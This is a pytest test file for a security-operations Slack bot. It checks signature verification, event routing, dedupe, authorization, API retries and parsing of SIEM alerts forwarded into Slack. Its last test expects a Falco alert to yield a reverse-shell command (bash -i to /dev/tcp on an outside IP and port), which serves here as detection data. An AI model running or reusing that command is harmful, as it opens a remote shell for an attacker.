"""The Slack app in HTTP mode: signatures, acks, routing, dedupe, authorization, retries.

Real event payloads (``tests/fixtures/slack``) are signed and POSTed into the real
bolt app served by socbot's aiohttp server; the Web API is ``FakeSlackAPI``. The
investigation is a recording stand-in here (the engine flows are in
``test_slack_flows.py``).
"""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from slack_sdk.errors import SlackApiError
from typer.testing import CliRunner

from alerts.parse import parse_alert
from bot.events.listeners import route
from bot.intake.alert_channels import alert_from_message, posted_by
from bot.slack.client import build_client
from bot.work.worker import ThreadRef
from cli.main import app
from store.db.engine import Database
from store.schema import SeenEvent
from store.slack import SlackStore
from tests.fakes.slack_api import BOT_ID, BOT_USER_ID, Call, FakeSlackAPI
from tests.slack_support import (
    ALERTS,
    SOC,
    RecordingInvestigate,
    SlackHarness,
    load,
    make_settings,
    run_ended,
    signed_headers,
)

MENTION_TS = "1700000100.000100"


@pytest.fixture
async def fake() -> AsyncIterator[FakeSlackAPI]:
    async with FakeSlackAPI() as api:
        api.set_handler("chat.postEphemeral", lambda call: {"ok": True, "message_ts": "1.2"})
        yield api


def posted(fake: FakeSlackAPI, channel: str = SOC) -> list[dict[str, Any]]:
    return [c.args for c in fake.calls_to("chat.postMessage") if c.args.get("channel") == channel]


# --- signatures and acks -----------------------------------------------------------


async def test_signed_mention_is_acked_at_once_and_investigated_in_its_thread(
    harness: SlackHarness, investigate: RecordingInvestigate
) -> None:
    investigate.gate = asyncio.Event()  # the investigation never ends during the ack
    started = time.monotonic()
    status, _ = await harness.event(load("app_mention.json"))
    assert status == 200
    # acked before the run ends, which is never here (Slack's limit is 3 s; 10 s is only
    # a loose bound for a loaded machine: an ack waiting for the run would never come)
    assert time.monotonic() - started < 10.0
    await investigate.wait_started()
    thread, text, alert = investigate.calls[0]
    assert thread == ThreadRef(SOC, MENTION_TS)
    assert thread.conversation_id == f"slack:{SOC}:{MENTION_TS}"
    assert text == "is 185.220.101.42 known bad?"
    assert alert is None
    investigate.gate.set()


@pytest.mark.parametrize(
    ("secret", "age_s"),
    [("wrong-secret", 0), (None, 10 * 60)],
    ids=["bad-signature", "stale-timestamp"],
)
async def test_bad_signature_or_stale_timestamp_is_401(
    harness: SlackHarness, investigate: RecordingInvestigate, secret: str | None, age_s: int
) -> None:
    body = json.dumps(load("app_mention.json"))
    kwargs: dict[str, Any] = {"timestamp": int(time.time()) - age_s}
    if secret:
        kwargs["secret"] = secret
    headers = {"Content-Type": "application/json", **signed_headers(body, **kwargs)}
    response = await harness.client.post("/slack/events", data=body, headers=headers)
    assert response.status == 401
    await harness.settle()
    assert investigate.calls == []


async def test_url_verification_and_healthz(harness: SlackHarness) -> None:
    status, body = await harness.event(
        {
            "token": "x",
            "challenge": "3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P",
            "type": "url_verification",
        }
    )
    assert status == 200
    assert "3eZbrw1aBm2rZgRNFdxV2595E9CY3gmdALWMmHkvFXO7tYXAYM8P" in body
    health = await harness.client.get("/healthz")
    assert health.status == 200
    assert await health.json() == {
        "ok": True,
        "mode": "http",
        "running": 0,
        "queued": 0,
        "running_here": 0,
        "alerts": {},
        "alerts_total": {},
        "policy": {
            "enabled": True,
            "rules": 0,
            "rule_errors": 0,
            "alerts": dict.fromkeys(
                ("ignored", "suppressed", "routed", "investigated", "deferred"), 0
            ),
        },
    }


@pytest.mark.parametrize(
    "fixture",
    ["message_changed.json", "message_channel_join.json", "member_joined_channel.json"],
)
async def test_other_subtypes_and_events_are_acked_and_ignored(
    harness: SlackHarness, investigate: RecordingInvestigate, fake: FakeSlackAPI, fixture: str
) -> None:
    status, _ = await harness.event(load(fixture))
    assert status == 200
    await harness.settle()
    assert investigate.calls == []
    assert fake.calls_to("chat.postMessage") == []


async def test_an_event_type_nobody_handles_still_gets_200(harness: SlackHarness) -> None:
    payload = load("member_joined_channel.json")
    payload["event"] = {
        "type": "emoji_changed",
        "subtype": "add",
        "name": "socbot",
        "event_ts": "1700000060.000060",
    }
    payload["event_id"] = "Ev0EMOJI01"
    status, _ = await harness.event(payload)
    assert status == 200


# --- dedupe -------------------------------------------------------------------------


async def test_retries_and_the_mention_twin_start_one_investigation_even_after_restart(
    fake: FakeSlackAPI, investigate: RecordingInvestigate, tmp_path: Path
) -> None:
    settings = make_settings(tmp_path, fake.base_url)
    retry = load("app_mention_retry.json")
    async with SlackHarness(fake, settings, investigate) as h:
        assert (await h.event(load("message_mention_twin.json")))[0] == 200
        assert (await h.event(load("app_mention.json")))[0] == 200
        assert (await h.event(retry["body"], retry["headers"]))[0] == 200
        await h.settle()
    assert len(investigate.calls) == 1
    async with SlackHarness(fake, settings, investigate) as h:  # a restart, same database
        assert (await h.event(retry["body"], retry["headers"]))[0] == 200
        twin = load("message_mention_twin.json")
        twin["event_id"] = "Ev0REDELIVERED"
        assert (await h.event(twin))[0] == 200
        await h.settle()
    assert len(investigate.calls) == 1


async def test_seen_keys_are_claimed_once_and_old_ones_pruned(tmp_path: Path) -> None:
    db = Database(f"sqlite+aiosqlite:///{tmp_path / 's.db'}")
    await db.create()
    store = SlackStore(db, seen_ttl=timedelta(seconds=0))
    assert await store.claim("event:Ev1")
    assert not await store.claim("event:Ev1")
    await asyncio.sleep(0.01)
    assert await store.prune() == 1
    async with db.session() as session:
        assert await session.get(SeenEvent, "event:Ev1") is None
    await db.close()


# --- conversations ------------------------------------------------------------------


async def test_thread_reply_reaches_socbot_without_mention_only_in_its_threads(
    harness: SlackHarness, investigate: RecordingInvestigate
) -> None:
    stranger = load("message_thread_reply.json")
    stranger["event"]["thread_ts"] = "1690000000.000001"
    stranger["event_id"] = "Ev0STRANGER"
    await harness.event(stranger)  # a thread socbot was never part of
    await harness.settle()
    assert investigate.calls == []

    await harness.event(load("app_mention.json"))
    await harness.settle()
    await harness.event(load("message_thread_reply.json"))
    await harness.settle()
    assert [(t, text) for t, text, _ in investigate.calls] == [
        (ThreadRef(SOC, MENTION_TS), "is 185.220.101.42 known bad?"),
        (ThreadRef(SOC, MENTION_TS), "which hosts talked to it in the last day?"),
    ]


async def test_second_message_while_running_gets_still_working(
    harness: SlackHarness, investigate: RecordingInvestigate, fake: FakeSlackAPI
) -> None:
    investigate.gate = asyncio.Event()
    await harness.event(load("app_mention.json"))
    await investigate.wait_started()
    await harness.event(load("message_thread_reply.json"))
    await fake.wait_for(lambda: len(posted(fake)) == 1)
    notice = posted(fake)[0]
    assert notice["thread_ts"] == MENTION_TS
    assert "still working" in notice["text"]
    assert len(investigate.calls) == 1
    investigate.gate.set()


async def test_stop_in_the_thread_cancels_the_investigation(
    harness: SlackHarness, investigate: RecordingInvestigate, fake: FakeSlackAPI
) -> None:
    investigate.gate = asyncio.Event()
    await harness.event(load("app_mention.json"))
    await investigate.wait_started()
    stop = load("message_thread_reply.json")
    stop["event"]["text"] = "stop"
    await harness.event(stop)
    await harness.settle()  # the stop listener returns once the run has ended
    assert investigate.cancelled == [ThreadRef(SOC, MENTION_TS)]
    assert len(posted(fake)) == 1
    assert "cancelled" in posted(fake)[0]["text"].lower()
    # the run posts "cancelled" on its way out; the slot is free once its task is done
    await run_ended(harness, ThreadRef(SOC, MENTION_TS))


async def test_failure_is_told_in_one_sentence(
    harness: SlackHarness, investigate: RecordingInvestigate, fake: FakeSlackAPI
) -> None:
    investigate.error = RuntimeError("secret internals\nTraceback ...")
    await harness.event(load("app_mention.json"))
    await fake.wait_for(lambda: len(posted(fake)) == 1)
    text = posted(fake)[0]["text"]
    assert "internal error" in text and "secret" not in text and "Traceback" not in text


async def test_own_messages_are_ignored(
    harness: SlackHarness, investigate: RecordingInvestigate
) -> None:
    await harness.event(load("app_mention.json"))
    await harness.settle()
    for n, extra in enumerate(
        [{"user": BOT_USER_ID}, {"bot_id": BOT_ID, "subtype": "bot_message"}]
    ):
        own = load("message_thread_reply.json")
        own["event"].update(extra, text=f"<@{BOT_USER_ID}> I am socbot")
        own["event"]["ts"] = own["event"]["event_ts"] = f"1700000250.00000{n}"
        own["event_id"] = f"Ev0OWN{n}"
        assert (await harness.event(own))[0] == 200
    await harness.settle()
    assert len(investigate.calls) == 1


async def test_alert_from_an_integration_is_stored_and_investigated_chatter_is_not(
    harness: SlackHarness, investigate: RecordingInvestigate
) -> None:
    chatter = load("message_thread_reply.json")
    chatter["event"].update(channel=ALERTS, text="anyone looking at this?")
    del chatter["event"]["thread_ts"]
    chatter["event_id"] = "Ev0CHATTER"
    await harness.event(chatter)
    await harness.event(load("bot_message_attachments.json"))
    await harness.settle()
    assert len(investigate.calls) == 1
    thread, _, alert = investigate.calls[0]
    assert thread == ThreadRef(ALERTS, "1700000300.000300")
    assert alert is not None and alert.title == "UnauthorizedAccess:EC2/TorIPCaller"
    assert alert.severity == "medium"
    assert "185.220.101.42" in [i.value for i in alert.indicators]
    stored = await harness.app.alerts.find_by_slack_message(ALERTS, "1700000300.000300")
    assert stored is not None and stored.id == alert.id
    assert await harness.app.store.is_known_thread(ALERTS, "1700000300.000300")


# --- authorization ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("slack", "event_changes", "told"),
    [
        ({"allowed_channels": ["COTHER001"]}, {}, True),
        ({"allowed_users": ["UOTHER001"]}, {}, True),
        ({}, {"user_team": "TEXTERNAL", "team": "TEXTERNAL"}, False),
    ],
    ids=["channel-not-allowed", "user-not-allowed", "slack-connect-external-user"],
)
async def test_refused_requests_start_nothing(
    fake: FakeSlackAPI,
    investigate: RecordingInvestigate,
    tmp_path: Path,
    slack: dict[str, Any],
    event_changes: dict[str, Any],
    told: bool,
) -> None:
    async with SlackHarness(
        fake, make_settings(tmp_path, fake.base_url, **slack), investigate
    ) as h:
        mention = load("app_mention.json")
        mention["event"].update(event_changes)
        assert (await h.event(mention))[0] == 200
        await h.settle()
    assert investigate.calls == []
    assert fake.calls_to("chat.postMessage") == []
    assert len(fake.calls_to("chat.postEphemeral")) == (1 if told else 0)


async def test_ext_shared_channel_refused_unless_listed(
    fake: FakeSlackAPI, investigate: RecordingInvestigate, tmp_path: Path
) -> None:
    mention = load("app_mention.json")
    mention["is_ext_shared_channel"] = True
    async with SlackHarness(fake, make_settings(tmp_path, fake.base_url), investigate) as h:
        await h.event(mention)
        await h.settle()
    assert investigate.calls == []
    listed = make_settings(tmp_path, fake.base_url, allowed_channels=[SOC])
    async with SlackHarness(fake, listed, investigate) as h:
        mention["event_id"] = "Ev0SHAREDOK"
        mention["event"]["ts"] = "1700000101.000101"
        await h.event(mention)
        await h.settle()
    assert len(investigate.calls) == 1


# --- routing ------------------------------------------------------------------------

ROUTES: list[tuple[str, dict[str, Any], bool, bool, str]] = [
    (
        "mention",
        {"type": "app_mention", "user": "U1", "text": f"<@{BOT_USER_ID}> hi"},
        False,
        False,
        "mention",
    ),
    (
        "twin",
        {"type": "message", "user": "U1", "text": f"<@{BOT_USER_ID}> hi"},
        False,
        False,
        "mention",
    ),
    ("chatter", {"type": "message", "user": "U1", "text": "hi"}, False, False, "ignore"),
    (
        "reply",
        {"type": "message", "user": "U1", "text": "more?", "thread_ts": "1.0"},
        True,
        False,
        "followup",
    ),
    (
        "reply-elsewhere",
        {"type": "message", "user": "U1", "text": "x", "thread_ts": "1.0"},
        False,
        False,
        "ignore",
    ),
    (
        "stop",
        {"type": "message", "user": "U1", "text": "Stop!", "thread_ts": "1.0"},
        True,
        False,
        "stop",
    ),
    (
        "stop-mention",
        {
            "type": "app_mention",
            "user": "U1",
            "text": f"<@{BOT_USER_ID}> cancel",
            "thread_ts": "1.0",
        },
        False,
        False,
        "stop",
    ),
    (
        "edit",
        {"type": "message", "subtype": "message_changed", "thread_ts": "1.0"},
        True,
        False,
        "ignore",
    ),
    (
        "deleted",
        {"type": "message", "subtype": "message_deleted", "thread_ts": "1.0"},
        True,
        True,
        "ignore",
    ),
    (
        "join",
        {"type": "message", "subtype": "channel_join", "user": "U1", "text": "joined"},
        False,
        True,
        "ignore",
    ),
    (
        "bot-alert",
        {
            "type": "message",
            "subtype": "bot_message",
            "bot_id": "B1",
            "text": "",
            "attachments": [{"title": "Alert"}],
        },
        False,
        True,
        "alert",
    ),
    (
        "bot-elsewhere",
        {
            "type": "message",
            "subtype": "bot_message",
            "bot_id": "B1",
            "text": "",
            "attachments": [{"title": "Alert"}],
        },
        False,
        False,
        "ignore",
    ),
    (
        "bot-in-thread",
        {"type": "message", "bot_id": "B1", "text": "x", "thread_ts": "1.0"},
        True,
        True,
        "ignore",
    ),
    (
        "blocks-only",
        {
            "type": "message",
            "text": "",
            "blocks": [{"type": "header", "text": {"type": "plain_text", "text": "Alert"}}],
        },
        False,
        True,
        "alert",
    ),
    (
        "human-in-alerts",
        {"type": "message", "user": "U1", "text": "who owns this?"},
        False,
        True,
        "ignore",
    ),
    (
        "dm",
        {"type": "message", "channel_type": "im", "user": "U1", "text": "hi"},
        False,
        False,
        "mention",
    ),
]


@pytest.mark.parametrize(
    ("event", "known", "alert_channel", "expected"),
    [r[1:] for r in ROUTES],
    ids=[r[0] for r in ROUTES],
)
def test_route(event: dict[str, Any], known: bool, alert_channel: bool, expected: str) -> None:
    event = {"ts": "2.0", "channel": "C1", **event}
    got = route(event, bot_user_id=BOT_USER_ID, known_thread=known, alert_channel=alert_channel)
    assert got == expected


# --- coordinator --------------------------------------------------------------------


async def test_global_limit_queues_work_and_tells_the_thread(
    fake: FakeSlackAPI, investigate: RecordingInvestigate, tmp_path: Path
) -> None:
    investigate.gate = asyncio.Event()
    settings = make_settings(tmp_path, fake.base_url, max_concurrent_investigations=1)
    async with SlackHarness(fake, settings, investigate) as h:
        await h.event(load("app_mention.json"))
        await investigate.wait_started()
        second = load("app_mention.json")
        second["event_id"] = "Ev0SECOND"
        second["event"]["ts"] = second["event"]["event_ts"] = "1700000500.000500"
        await h.event(second)
        await fake.wait_for(lambda: len(posted(fake)) == 1)
        assert h.app.coordinator.queued == 1
        notice = posted(fake)[0]
        assert notice["thread_ts"] == "1700000500.000500" and "Queued" in notice["text"]
        assert len(investigate.calls) == 1
        investigate.gate.set()
        await h.settle()
    assert [t.thread_ts for t, _, _ in investigate.calls] == [MENTION_TS, "1700000500.000500"]


# --- Web API retries ----------------------------------------------------------------


async def test_429_retry_after_is_honoured_then_succeeds(
    fake: FakeSlackAPI, tmp_path: Path
) -> None:
    client = build_client(make_settings(tmp_path, fake.base_url).slack, backoff_s=0.01)
    fake.fail_next("chat.postMessage", status=429, retry_after=0)
    fake.fail_next("chat.update", status=503, times=2)
    response = await client.chat_postMessage(channel=SOC, text="hello")
    assert response["ok"]
    first, second = fake.calls_to("chat.postMessage")
    assert (first.status, second.status) == (429, 200)
    await client.chat_update(channel=SOC, ts=response["ts"], text="edited")
    assert [c.status for c in fake.calls_to("chat.update")] == [503, 503, 200]


async def test_retries_are_bounded(fake: FakeSlackAPI, tmp_path: Path) -> None:
    client = build_client(
        make_settings(tmp_path, fake.base_url).slack, backoff_s=0.01, max_retry_after_s=5
    )
    fake.fail_next("chat.postMessage", status=429, retry_after=60)  # longer than we wait
    with pytest.raises(SlackApiError):
        await client.chat_postMessage(channel=SOC, text="hello")
    fake.fail_next("chat.postMessage", status=500, times=10)
    with pytest.raises(SlackApiError):
        await client.chat_postMessage(channel=SOC, text="hello")
    calls: list[Call] = fake.calls_to("chat.postMessage")
    assert len(calls) == 1 + 4  # one 429 not retried; one 500 + three retries


# --- socbot serve: tokens -----------------------------------------------------------

TOKEN_CASES = [
    ({}, [], "SLACK_BOT_TOKEN is not set"),
    ({"SLACK_BOT_TOKEN": "xoxp-user-token"}, [], "SLACK_BOT_TOKEN must be a bot token"),
    ({"SLACK_BOT_TOKEN": "xoxb-test"}, [], "SLACK_APP_TOKEN is not set"),
    ({"SLACK_BOT_TOKEN": "xoxb-test", "SLACK_APP_TOKEN": "xoxb-x"}, [], "SLACK_APP_TOKEN must"),
    ({"SLACK_BOT_TOKEN": "xoxb-test"}, ["--mode", "http"], "SLACK_SIGNING_SECRET is not set"),
]


@pytest.mark.parametrize(("env", "args", "message"), TOKEN_CASES)
def test_serve_names_the_missing_or_wrong_token(
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    env: dict[str, str],
    args: list[str],
    message: str,
) -> None:
    monkeypatch.delenv("SOCBOT_CONFIG")
    monkeypatch.chdir(tmp_path)  # no config/socbot.toml here
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    result = CliRunner().invoke(app, ["serve", *args])
    assert result.exit_code == 2
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: ") and message in lines[0]


async def test_direct_message_is_answered_in_its_thread_even_with_channel_allowlist(
    fake: FakeSlackAPI, investigate: RecordingInvestigate, tmp_path: Path
) -> None:
    dm = load("message_thread_reply.json")
    dm["event"].update(channel="D0DIRECT01", channel_type="im", text="is evil.example bad?")
    del dm["event"]["thread_ts"], dm["event"]["parent_user_id"]
    settings = make_settings(tmp_path, fake.base_url, allowed_channels=["COTHER001"])
    async with SlackHarness(fake, settings, investigate) as h:
        assert (await h.event(dm))[0] == 200
        await h.settle()
    assert [(t, text) for t, text, _ in investigate.calls] == [
        (ThreadRef("D0DIRECT01", "1700000200.000200"), "is evil.example bad?")
    ]
    reaction = fake.calls_to("reactions.add")[0].args
    assert (reaction["channel"], reaction["timestamp"], reaction["name"]) == (
        "D0DIRECT01",
        "1700000200.000200",
        "eyes",
    )


async def test_a_listener_failure_is_told_in_the_thread(
    harness: SlackHarness, fake: FakeSlackAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def broken(channel: str, thread_ts: str) -> bool:
        raise RuntimeError("database is locked: /var/lib/secret/path")

    monkeypatch.setattr(harness.app.store, "is_known_thread", broken)
    assert (await harness.event(load("message_thread_reply.json")))[0] == 200
    await fake.wait_for(lambda: len(posted(fake)) == 1)
    notice = posted(fake)[0]
    assert notice["thread_ts"] == MENTION_TS
    assert "internal error" in notice["text"] and "secret" not in notice["text"]


# --- alerts forwarded by integrations -----------------------------------------------


def test_integration_message_with_json_is_parsed_as_that_format() -> None:
    finding = json.loads(
        (
            Path(__file__).parents[2] / "fixtures" / "alerts" / "leveret-guardduty-finding.json"
        ).read_text()
    )
    event = {
        "type": "message",
        "subtype": "bot_message",
        "bot_id": "B0SIEM0001",
        "text": "GuardDuty finding forwarded by the SIEM:\n```" + json.dumps(finding) + "```",
    }
    parsed = alert_from_message(event)
    assert parsed is not None
    data, hint = parsed
    assert hint is None and data == finding
    assert parse_alert(data, hint).source == "guardduty"


def test_blocks_only_message_becomes_a_generic_alert() -> None:
    event = {
        "type": "message",
        "text": "",
        "user": "U0WORKFLOW",
        "channel": ALERTS,
        "ts": "1700000700.000700",
        "blocks": [
            {"type": "header", "text": {"type": "plain_text", "text": "Impossible travel: alice"}},
            {
                "type": "section",
                "text": {"type": "mrkdwn", "text": "Sign-ins from 203.0.113.9 and 8.8.4.4"},
                "fields": [{"type": "mrkdwn", "text": "*Severity*: high"}],
            },
        ],
    }
    parsed = alert_from_message(event)
    assert parsed is not None
    data, hint = parsed
    assert hint is None  # any format may know it; generic is the catch-all
    assert data["title"] == "Impossible travel: alice"
    assert "8.8.4.4" in data["description"]
    alert = parse_alert(data, hint)
    assert alert.title == "Impossible travel: alice"
    assert "8.8.4.4" in [i.value for i in alert.indicators]


@pytest.mark.parametrize(
    "event",
    [
        {"type": "message", "user": "U1", "text": "did anyone look at the GuardDuty one?"},
        {"type": "message", "subtype": "bot_message", "bot_id": "B1", "text": ""},
        {
            "type": "message",
            "user": "U1",
            "text": "",
            "blocks": [{"type": "rich_text", "elements": []}],
        },
    ],
    ids=["human-chatter", "empty-bot-ping", "human-empty-rich-text"],
)
def test_not_an_alert(event: dict[str, Any]) -> None:
    assert alert_from_message(event) is None


def test_forwarded_fields_lose_mrkdwn_and_the_bot_name_is_no_indicator() -> None:
    event = {
        "type": "message",
        "subtype": "bot_message",
        "bot_id": "B0WAZUH001",
        "username": "wazuh-alerts",
        "text": "",
        "attachments": [
            {
                "title": "*sshd: brute force* on <https://wazuh.example/agents/007|web-01>",
                "author_name": "wazuh-alerts",
                "fields": [
                    {"title": "*Severity*", "value": "`High`"},
                    {"title": "Source IP", "value": "<http://45.33.32.156|45.33.32.156>"},
                ],
            }
        ],
        "blocks": [
            {
                "type": "section",
                "fields": [{"type": "mrkdwn", "text": "*User*\n_admin_"}],
            }
        ],
    }
    parsed = alert_from_message(event)
    assert parsed is not None
    data, hint = parsed
    assert data["title"] == "sshd: brute force on web-01"
    assert data["fields"] == {"Severity": "High", "Source IP": "45.33.32.156", "User": "admin"}
    alert = parse_alert(data, hint, not_indicators=posted_by(event))
    assert alert.severity == "high"
    values = {i.value for i in alert.indicators} | {e.value for e in alert.entities}
    assert "45.33.32.156" in values
    assert "wazuh-alerts" not in values


def test_embedded_json_with_slack_auto_links_goes_through_the_catalogue() -> None:
    falco = (Path(__file__).parents[2] / "fixtures" / "alerts" / "warren-falco.json").read_text()
    # Slack rewrites URLs it sees into <url> links and escapes &, < and >.
    text = falco.replace("docker.io/library/httpd", "<http://docker.io/library/httpd>").replace(
        ">&", "&gt;&amp;"
    )
    event = {"type": "message", "subtype": "bot_message", "bot_id": "B0FALCO01", "text": text}
    parsed = alert_from_message(event)
    assert parsed is not None
    alert = parse_alert(*parsed)
    assert alert.format == "falco"
    assert "bash -i >& /dev/tcp/155.94.163.103/8080 0>&1" in [e.value for e in alert.entities]
